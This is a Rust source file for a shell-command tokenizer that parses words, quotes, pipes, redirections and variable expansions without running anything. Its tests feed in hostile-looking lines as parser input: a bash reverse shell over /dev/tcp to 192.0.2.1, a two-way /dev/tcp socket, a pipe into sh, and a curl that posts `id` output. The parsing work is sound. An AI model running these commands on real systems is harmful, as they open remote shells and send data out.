//! A shell text cut into commands: words, quotes, pipes, redirections, expansions of variables and substitutions.
//! It runs nothing and knows no program.

/// How a command is joined to the one before it.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(crate) enum Joint {
    Then,
    Pipe,
}

/// One simple command.
#[derive(Debug, Clone, PartialEq, Eq)]
pub(crate) struct Command {
    pub joint: Joint,
    pub words: Vec<String>,
    pub assignments: Vec<(String, String)>,
    pub output: Option<(String, bool)>,
    pub input: Option<String>,
    pub background: bool,
}

/// What a shell text may ask for while it is being cut.
pub(crate) trait Surroundings {
    fn variable(&mut self, name: &str) -> String;
    fn substitute(&mut self, command: &str) -> String;
}

/// Longest shell text read.
const TEXT: usize = 64 * 1024;

/// Cuts a text; what cannot be understood is kept as words.
pub(crate) fn commands(text: &str, around: &mut dyn Surroundings) -> Vec<Command> {
    let letters: Vec<char> = text.chars().take(TEXT).collect();
    let mut cutter = Cutter {
        letters,
        at: 0,
        around,
    };
    cutter.cut()
}

struct Cutter<'a> {
    letters: Vec<char>,
    at: usize,
    around: &'a mut dyn Surroundings,
}

impl Cutter<'_> {
    fn peek(&self) -> Option<char> {
        self.letters.get(self.at).copied()
    }

    fn next(&mut self) -> Option<char> {
        let letter = self.peek();
        self.at += 1;
        letter
    }

    fn eat(&mut self, letter: char) -> bool {
        let same = self.peek() == Some(letter);
        if same {
            self.at += 1;
        }
        same
    }

    fn cut(&mut self) -> Vec<Command> {
        let mut all = Vec::new();
        let mut joint = Joint::Then;
        while self.peek().is_some() && all.len() < crate::limits::SHELL_COMMANDS {
            let (command, next) = self.command(joint);
            if !command.words.is_empty() || !command.assignments.is_empty() || command.output.is_some() {
                all.push(command);
            }
            joint = next;
        }
        all
    }

    fn command(&mut self, joint: Joint) -> (Command, Joint) {
        let mut command = Command {
            joint,
            words: Vec::new(),
            assignments: Vec::new(),
            output: None,
            input: None,
            background: false,
        };
        loop {
            match self.peek() {
                None => return (command, Joint::Then),
                Some(' ' | '\t' | '\r') => self.at += 1,
                Some('\n' | ';' | '(' | ')') => {
                    self.at += 1;
                    return (command, Joint::Then);
                }
                Some('#') if command.words.is_empty() => {
                    while self.peek().is_some_and(|letter| letter != '\n') {
                        self.at += 1;
                    }
                }
                Some('|') => {
                    self.at += 1;
                    return (command, if self.eat('|') { Joint::Then } else { Joint::Pipe });
                }
                Some('&') => {
                    self.at += 1;
                    if self.eat('>') {
                        self.redirect(&mut command, true);
                        continue;
                    }
                    command.background = !self.eat('&');
                    return (command, Joint::Then);
                }
                Some('>') => {
                    self.at += 1;
                    self.redirect(&mut command, true);
                }
                Some('2') if self.letters.get(self.at + 1) == Some(&'>') => {
                    self.at += 2;
                    self.redirect(&mut command, false);
                }
                Some('<') => {
                    self.at += 1;
                    let heredoc = self.eat('<');
                    // `<>` opens both ways, `<&` copies a descriptor.
                    let both = self.eat('>');
                    let copied = !both && self.eat('&');
                    while self.peek() == Some(' ') {
                        self.at += 1;
                    }
                    let word = self.word();
                    if !heredoc && !copied {
                        command.input = Some(word);
                    }
                }
                Some(_) => self.take_word(&mut command),
            }
        }
    }

    fn take_word(&mut self, command: &mut Command) {
        let word = self.word();
        let descriptor = word.len() == 1 && word.chars().all(|letter| letter.is_ascii_digit());
        if descriptor && matches!(self.peek(), Some('>' | '<')) {
            return;
        }
        if command.words.is_empty()
            && let Some((name, value)) = word.split_once('=')
            && !name.is_empty()
            && name
                .chars()
                .all(|letter| letter.is_ascii_alphanumeric() || letter == '_')
        {
            command.assignments.push((name.to_owned(), value.to_owned()));
        } else if !(command.words.is_empty()
            && matches!(
                word.as_str(),
                "if" | "then" | "else" | "fi" | "do" | "done" | "while" | "!" | "{" | "}"
            ))
        {
            command.words.push(word);
        }
    }

    fn redirect(&mut self, command: &mut Command, keep: bool) {
        let append = self.eat('>');
        let both = self.eat('&');
        while self.peek() == Some(' ') {
            self.at += 1;
        }
        let word = self.word();
        // `>&1` copies a descriptor; `>& file` sends both outputs there.
        if both && (word == "-" || word.chars().all(|letter| letter.is_ascii_digit())) {
            return;
        }
        if keep && !matches!(word.as_str(), "/dev/null" | "nul" | "NUL" | "$null") {
            command.output = Some((word, append));
        }
    }

    fn word(&mut self) -> String {
        let start = self.at;
        let mut out = String::new();
        while let Some(letter) = self.peek() {
            match letter {
                ' ' | '\t' | '\n' | '\r' | ';' | '|' | '&' | '>' | '<' | '(' | ')' => break,
                '\'' => {
                    self.at += 1;
                    while let Some(letter) = self.next().filter(|letter| *letter != '\'') {
                        out.push(letter);
                    }
                }
                '"' => {
                    self.at += 1;
                    self.quoted(&mut out);
                }
                '\\' => {
                    self.at += 1;
                    // A Windows path keeps its backslashes: only what a shell would need escaped is unescaped.
                    match self.peek() {
                        Some(letter) if !letter.is_alphanumeric() => {
                            self.at += 1;
                            if letter != '\n' {
                                out.push(letter);
                            }
                        }
                        _ => out.push('\\'),
                    }
                }
                '$' | '`' | '%' => self.expand(&mut out),
                letter => {
                    self.at += 1;
                    out.push(letter);
                }
            }
        }
        if self.at == start {
            self.at += 1;
        }
        out
    }

    fn quoted(&mut self, out: &mut String) {
        while let Some(letter) = self.peek() {
            match letter {
                '"' => {
                    self.at += 1;
                    return;
                }
                '\\' if matches!(self.letters.get(self.at + 1), Some('"' | '\\' | '$' | '`')) => {
                    out.extend(self.letters.get(self.at + 1));
                    self.at += 2;
                }
                '$' | '`' => self.expand(out),
                letter => {
                    self.at += 1;
                    out.push(letter);
                }
            }
        }
    }

    fn until(&mut self, close: char, open: Option<char>) -> String {
        let mut depth = 0;
        let mut inside = String::new();
        while let Some(letter) = self.next() {
            if Some(letter) == open {
                depth += 1;
            } else if letter == close {
                if depth == 0 {
                    break;
                }
                depth -= 1;
            }
            inside.push(letter);
        }
        inside
    }

    fn expand(&mut self, out: &mut String) {
        let sign = self.next();
        if sign == Some('`') {
            let inside = self.until('`', None);
            out.push_str(self.around.substitute(&inside).trim_end());
            return;
        }
        if sign == Some('%') {
            let name = self.name();
            if !name.is_empty() && self.eat('%') {
                out.push_str(&self.around.variable(&name));
            } else {
                out.push('%');
                out.push_str(&name);
            }
            return;
        }
        match self.peek() {
            Some('(') => {
                self.at += 1;
                let inside = self.until(')', Some('('));
                out.push_str(self.around.substitute(&inside).trim_end());
            }
            Some('{') => {
                self.at += 1;
                let inside = self.until('}', None);
                let name: String = inside
                    .chars()
                    .take_while(|letter| letter.is_ascii_alphanumeric() || *letter == '_')
                    .collect();
                out.push_str(&self.around.variable(&name));
            }
            _ => {
                let mut name = self.name();
                if let Some(rest) = name.strip_prefix("env").map(str::to_owned)
                    && rest.is_empty()
                    && self.eat(':')
                {
                    name = self.name();
                }
                if name.is_empty() {
                    out.push('$');
                } else {
                    out.push_str(&self.around.variable(&name));
                }
            }
        }
    }

    fn name(&mut self) -> String {
        let mut name = String::new();
        while let Some(letter) = self
            .peek()
            .filter(|letter| letter.is_ascii_alphanumeric() || *letter == '_')
        {
            name.push(letter);
            self.at += 1;
        }
        name
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    struct Plain;
    impl Surroundings for Plain {
        fn variable(&mut self, name: &str) -> String {
            format!("<{name}>")
        }
        fn substitute(&mut self, command: &str) -> String {
            format!("[{command}]\n")
        }
    }

    fn words(text: &str) -> Vec<Vec<String>> {
        commands(text, &mut Plain)
            .into_iter()
            .map(|command| command.words)
            .collect()
    }

    #[test]
    fn quotes_joints_and_expansions() {
        assert_eq!(
            words("node a.js && echo 'x y' | sh"),
            [vec!["node", "a.js"], vec!["echo", "x y"], vec!["sh"]]
        );
        assert_eq!(
            words("curl \"$URL/x\" -d `id`"),
            [vec!["curl", "<URL>/x", "-d", "[id]"]]
        );
        assert_eq!(words("cat $(ls $(pwd))"), [vec!["cat", "[ls $(pwd)]"]]);
        assert_eq!(
            words("C:\\tools\\x.exe %TEMP%"),
            [vec!["C:\\tools\\x.exe", "<TEMP>"]]
        );
    }

    #[test]
    fn redirections_and_assignments() {
        let all = commands("A=1 node x > out.txt 2>/dev/null &", &mut Plain);
        assert_eq!(all[0].assignments, [("A".to_owned(), "1".to_owned())]);
        assert_eq!(all[0].output, Some(("out.txt".to_owned(), false)));
        assert!(all[0].background);
        let wired = commands("bash -i >& /dev/tcp/192.0.2.1/44 0>&1", &mut Plain);
        assert_eq!(wired[0].words, ["bash", "-i"]);
        assert_eq!(wired[0].output, Some(("/dev/tcp/192.0.2.1/44".to_owned(), false)));
        let both = commands("exec 5<>/dev/tcp/192.0.2.1/44; cat <&5", &mut Plain);
        assert_eq!(both[0].input.as_deref(), Some("/dev/tcp/192.0.2.1/44"));
        assert_eq!((both[0].words.len(), &both[1].input), (1, &None));
    }

    #[test]
    fn broken_text_ends() {
        for text in ["'", "\"$(", "${", "`", "\\", ">>>", "<<", "%", "((((", "|&|&"] {
            let _ = words(text);
        }
    }
}
